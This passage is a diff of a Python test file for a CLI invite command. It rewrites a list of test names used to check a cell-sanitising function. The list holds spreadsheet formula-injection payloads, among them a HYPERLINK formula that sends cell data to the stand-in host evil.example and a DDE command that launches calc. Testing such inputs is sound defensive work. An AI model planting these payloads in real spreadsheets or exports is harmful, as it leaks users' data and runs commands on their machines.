@@ -11,7 +11,7 @@ from click.testing import CliRunner
 from venue.cli import main
 from venue.cli.invite import plain_cell
 
-NAMES = ["=HYPERLINK(\"https://evil.example/?\"&E2)", "=cmd' /C calc'!A0 x", "+1+1 Ada", "-Ada", "@SUM(E1:E9)", "Ada"]
+NAMES = [
     '=HYPERLINK("https://evil.example/?"&E2,"Ada")',
     "=cmd|' /C calc'!A0 x",
     "+1+1 Ada",
